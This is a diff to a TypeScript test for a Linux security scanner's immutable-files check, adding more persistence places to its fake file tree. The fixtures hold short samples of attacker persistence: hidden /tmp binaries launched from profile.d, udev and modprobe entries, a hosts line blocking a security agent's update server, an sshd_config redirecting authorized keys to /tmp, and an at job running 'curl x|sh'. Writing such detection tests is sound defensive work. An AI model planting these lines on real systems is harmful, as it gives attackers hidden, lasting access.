@@ -1,7 +1,8 @@
 /**
  * The immutable-files check on an ext4-backed tree (flags set with chattr, read back
  * through lsattr by the directory source): locked and append-only files in every
- * watched place (cron, units, rc.local, sudoers, account files, the preload file and
+ * watched place (cron, units, generators, rc.local, at jobs, profile.d, udev rules,
+ * modprobe.d, sshd_config, /etc/hosts, sudoers, account files, the preload file and
  * the library it names, authorized_keys and ~/.ssh of a home outside /home, system
  * commands), locked directories at medium, symlinks judged by their target and reported
  * once, and locked files outside the watched places left alone (no full-disk walk).
@@ -54,6 +55,13 @@ async function buildTree(root: string): Promise<void> {
   await symlink('/opt/x/hidden', path.join(root, 'usr/bin/sshd-helper'));
   await put(root, 'opt/data/locked', 'not a persistence place\n');
   await put(root, 'var/lib/dpkg/info/procps.list', '/usr/bin/ps\n/usr/bin/top\n');
+  await put(root, 'etc/profile.d/x.sh', '(nohup /tmp/.x/run &)\n');
+  await put(root, 'etc/hosts', '127.0.0.1 update.aegis.aliyun.com\n');
+  await put(root, 'etc/udev/rules.d/99-x.rules', 'RUN+="/tmp/.x/run"\n');
+  await put(root, 'etc/modprobe.d/x.conf', 'install dummy /tmp/.x/run\n');
+  await put(root, 'etc/ssh/sshd_config', 'AuthorizedKeysFile /tmp/.k\n');
+  await put(root, 'var/spool/cron/atjobs/a0000101', 'curl x|sh\n');
+  await put(root, 'etc/systemd/system-generators/g', '#!/bin/sh\n');
 }
 
 const LOCKED = [
@@ -72,6 +80,13 @@ const LOCKED = [
   'usr/bin/ps',
   'opt/x/hidden',
   'opt/data/locked',
+  'etc/profile.d/x.sh',
+  'etc/hosts',
+  'etc/udev/rules.d/99-x.rules',
+  'etc/modprobe.d/x.conf',
+  'etc/ssh/sshd_config',
+  'var/spool/cron/atjobs/a0000101',
+  'etc/systemd/system-generators/g',
   // Last: nothing can be written below it once it is locked.
   'etc/passwd',
 ];
@@ -119,6 +134,13 @@ describe('immutable-files check', () => {
         `high immutable.locked-file /root/.ssh/authorized_keys ${a}`,
         `high immutable.locked-file /usr/bin/ps ${i}`,
         `high immutable.locked-file /opt/x/hidden ${i}`,
+        `high immutable.locked-file /etc/profile.d/x.sh ${i}`,
+        `high immutable.locked-file /etc/hosts ${i}`,
+        `high immutable.locked-file /etc/udev/rules.d/99-x.rules ${i}`,
+        `high immutable.locked-file /etc/modprobe.d/x.conf ${i}`,
+        `high immutable.locked-file /etc/ssh/sshd_config ${i}`,
+        `high immutable.locked-file /var/spool/cron/atjobs/a0000101 ${i}`,
+        `high immutable.locked-file /etc/systemd/system-generators/g ${i}`,
       ].sort(),
     );
   });
